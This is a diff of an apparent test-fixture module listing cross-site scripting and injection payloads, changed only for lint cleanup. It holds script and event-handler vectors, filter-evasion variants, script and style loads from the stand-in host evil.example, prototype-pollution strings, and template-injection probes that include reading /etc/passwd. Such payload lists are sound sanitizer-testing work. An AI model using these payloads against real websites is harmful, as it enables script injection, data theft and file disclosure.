@@ -6,14 +6,16 @@ look for both.
 
 from __future__ import annotations
 
+# ruff: noqa: E501 - a payload a line would be longer, not clearer
+
 _DO = "window.pwned=1;alert(1)"
 
 _TAGS = [
     f"<script>{_DO}</script>", f"<ScRiPt>{_DO}</sCrIpT>", f"<script >{_DO}</script >", f"<script/x>{_DO}</script>",
-    f"<script src=//evil.example/a.js></script>", f"<script type=module>{_DO}</script>", f"<scr<script>ipt>{_DO}</script>",
+    "<script src=//evil.example/a.js></script>", f"<script type=module>{_DO}</script>", f"<scr<script>ipt>{_DO}</script>",
     f"<script\n>{_DO}</script\n>", f"<<script>{_DO}//<</script>", f"<script>{_DO}", f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
     f"<img src=x onerror={_DO}>", f"<img src=x onerror='{_DO}'>", f'<img src="x" onerror="{_DO}">', f"<img/src=x/onerror={_DO}>",
-    f"<img src=//evil.example/x.png>", f"<img srcset='//evil.example/x 2x'>", f"<image href=x onerror={_DO}>",
+    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x 2x'>", f"<image href=x onerror={_DO}>",
     f"<video src=x onerror={_DO}>", f"<video><source onerror={_DO}></video>", f"<audio src=x onerror={_DO}>",
     f"<svg onload={_DO}>", f"<svg/onload={_DO}>", f"<svg><script>{_DO}</script></svg>", f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
     f"<svg><set onbegin={_DO}>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={_DO}/>#x'/></svg>",
@@ -31,10 +33,10 @@ _TAGS = [
     "<link rel=dns-prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
     "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta http-equiv=set-cookie content=a=b>",
     f"<template><script>{_DO}</script></template>", f"<template shadowrootmode=open><script>{_DO}</script></template>",
-    f"<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>", "<style>body{display:none}</style>",
-    f"<style onload={_DO}></style>", f"<table background=//evil.example>", f"<td background='javascript:{_DO}'>",
-    f"<frameset onload={_DO}>", f"<portal src=//evil.example>", f"<dialog open onclose={_DO}>", f"<xss style='animation-name:x' onanimationstart={_DO}>",
-    f"<p id=index>[]</p>", "<div id=filters></div>", "<div id=replay></div>", "<form name=filters><input name=elements>", "<img name=body>",
+    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>", "<style>body{display:none}</style>",
+    f"<style onload={_DO}></style>", "<table background=//evil.example>", f"<td background='javascript:{_DO}'>",
+    f"<frameset onload={_DO}>", "<portal src=//evil.example>", f"<dialog open onclose={_DO}>", f"<xss style='animation-name:x' onanimationstart={_DO}>",
+    "<p id=index>[]</p>", "<div id=filters></div>", "<div id=replay></div>", "<form name=filters><input name=elements>", "<img name=body>",
 ]  # fmt: skip
 
 _ENDINGS = [
@@ -44,14 +46,14 @@ _ENDINGS = [
     f"</td></tr></table><script>{_DO}</script>", f"</pre><script>{_DO}</script>", f"</svg><script>{_DO}</script>", f"</body></html><script>{_DO}</script>",
     "<!--", "-->", "--!>", "<!--><script>", f"<!--<script>{_DO}</script>-->", f"--><script>{_DO}</script>", f"<!-- --!><img src=x onerror={_DO}>",
     f"<![CDATA[<script>{_DO}</script>]]>", "]]>", f"]]><script>{_DO}</script>", "<?xml version='1.0'?>", f"<?php {_DO} ?>", f"<% {_DO} %>",
-    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;", f"<!ENTITY % x SYSTEM '//evil.example'>", "<plaintext>", f"<xmp><script>{_DO}</script>", "<listing>",
+    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;", "<!ENTITY % x SYSTEM '//evil.example'>", "<plaintext>", f"<xmp><script>{_DO}</script>", "<listing>",
     f'"><script>{_DO}</script>', f"'><script>{_DO}</script>", f"><script>{_DO}</script>", f'" onmouseover="{_DO}', f"' onmouseover='{_DO}",
-    f'" autofocus onfocus="{_DO}', f"` onmouseover=`{_DO}", f'"/><img src=x onerror={_DO}>', f"\" style=\"background:url(//evil.example)", "<<>>\"'`=",
+    f'" autofocus onfocus="{_DO}', f"` onmouseover=`{_DO}", f'"/><img src=x onerror={_DO}>', "\" style=\"background:url(//evil.example)", "<<>>\"'`=",
 ]  # fmt: skip
 
 _CODE = [
     f"javascript:{_DO}", f"JaVaScRiPt:{_DO}", f"\x01javascript:{_DO}", f"java\nscript:{_DO}", f"data:text/html,<script>{_DO}</script>",
-    f"data:image/svg+xml,<svg onload={_DO}>", f"vbscript:msgbox(1)", f"';{_DO};'", f'";{_DO};"', f"`;{_DO};`", f"${{{_DO}}}", f"`${{{_DO}}}`",
+    f"data:image/svg+xml,<svg onload={_DO}>", "vbscript:msgbox(1)", f"';{_DO};'", f'";{_DO};"', f"`;{_DO};`", f"${{{_DO}}}", f"`${{{_DO}}}`",
     f"\\';{_DO}//", f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e", f"\\x3cscript\\x3e{_DO}\\x3c/script\\x3e", f"*/{_DO}/*", f"//\n{_DO}",
     '{"__proto__":{"pwned":1}}', "__proto__", "constructor", "hasOwnProperty", "toString", '"}]}<!--', "[object Object]", "undefined", "NaN", "null",
     "{{ 7 * 7 }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)",
